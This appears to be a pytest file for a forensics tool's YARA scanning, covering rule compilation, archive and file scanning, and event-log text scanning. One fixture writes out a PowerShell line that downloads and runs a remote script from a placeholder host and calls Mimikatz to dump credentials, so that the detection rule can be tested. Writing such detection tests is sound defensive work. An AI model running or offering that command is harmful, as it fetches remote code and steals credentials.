"""YARA: per-file compilation with externals, broken files reported, files and event text scanned."""

from __future__ import annotations

import sys
import zipfile
from pathlib import Path

from forensics.hunt.yara_scan import compile_rules, file_type, scan_event_text, scan_files
from forensics.shipped import IOCS

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/casekit.py
from casekit import at, build_case

RULE = """
rule Test_Generated_Marker
{
    meta:
        description = "marker planted by the test"
        score = 80
    strings:
        $m = "FORENSICS-TEST-MARKER-7f3a"
    condition:
        $m and filename matches /\\.bin$/ and extension == ".bin"
}
"""


def test_signature_base_compiles_with_externals(shared_data: Path) -> None:
    rules = compile_rules([shared_data / "signature-base" / "yara"])
    failed = [o for o in rules.outcomes if o.status == "failed"]
    loaded = [o for o in rules.outcomes if o.status == "loaded"]
    assert rules.rules is not None
    assert len(loaded) >= 700  # 741 files in the checkout used here
    assert len(failed) <= len(loaded) // 100, [(o.path, o.reason) for o in failed]
    assert all(o.reason for o in failed)


def test_include_dependent_files_reported_not_fatal(shared_data: Path) -> None:
    malware = shared_data / "yara-rules" / "malware"
    files = sorted(malware.glob("MALW_*ELF*.yar"))[:6] + sorted(malware.glob("RANSOM_*.yar"))[:5]
    rules = compile_rules(files)
    failed = [o for o in rules.outcomes if o.status == "failed"]
    assert rules.rules is not None and rules.compiled >= 5
    assert any("is__elf" in o.reason for o in failed)  # needs a rule from another file


def test_generated_file_hit_and_limits(tmp_path: Path) -> None:
    rule_dir = tmp_path / "rules"
    rule_dir.mkdir()
    (rule_dir / "good.yar").write_text(RULE)
    (rule_dir / "broken.yar").write_text("rule broken { condition: nosuchthing }")
    rules = compile_rules([rule_dir])
    assert {Path(o.path).name: o.status for o in rules.outcomes} == {
        "broken.yar": "failed",
        "good.yar": "loaded",
    }
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    (evidence / "dropped.bin").write_bytes(b"\x00" * 100 + b"FORENSICS-TEST-MARKER-7f3a" + b"\x00" * 100)
    (evidence / "same-text.txt").write_bytes(b"FORENSICS-TEST-MARKER-7f3a")  # extension differs: no hit
    (evidence / "big.bin").write_bytes(b"FORENSICS-TEST-MARKER-7f3a" + b"\x00" * 5000)
    (evidence / "link.bin").symlink_to(evidence / "dropped.bin")
    with zipfile.ZipFile(evidence / "collection.zip", "w") as z:
        z.writestr("C/Users/Public/payload.bin", b"FORENSICS-TEST-MARKER-7f3a")
    result = scan_files(rules, [evidence], max_size=4096)
    assert [f.rule_id for f in result.findings] == ["Test_Generated_Marker"] * 2
    assert "collection.zip!" in (result.findings[0].details or "")  # an archive member, by name
    assert "dropped.bin" in (result.findings[1].details or "")
    assert result.findings[0].level == "high"
    assert [(Path(o.path).name, o.status) for o in result.outcomes] == [("big.bin", "skipped")]


def test_event_text_scanned_and_mapped_to_rows(tmp_path: Path, repo_root: Path) -> None:
    script = (
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); Invoke-Mimikatz -DumpCreds "
        + "#" * 40
    )
    events = [
        dict(
            host="WKS01",
            channel="Microsoft-Windows-PowerShell/Operational",
            event_id=4104,
            ts=at(i),
            ScriptBlockText=script,
            process_cmdline=script,
        )
        for i in range(3)
    ] + [
        dict(
            host="WKS02",
            channel="Security",
            event_id=4688,
            ts=at(9),
            process_cmdline="notepad.exe " + "a" * 80,
        )
    ]
    case = build_case(tmp_path / "case", events)
    rules = compile_rules([IOCS])
    result = scan_event_text(case, rules)
    hits = {(f.rule_id, f.host, len(f.records), f.level) for f in result.findings}
    assert hits == {("FORENSICS_Mimikatz_Commands", "WKS01", 3, "critical")}


def test_file_type() -> None:
    assert file_type(b"MZ\x90\x00") == "EXE"
    assert file_type(b"\x7fELF\x02") == "ELF"
    assert file_type(b"hello") == ""
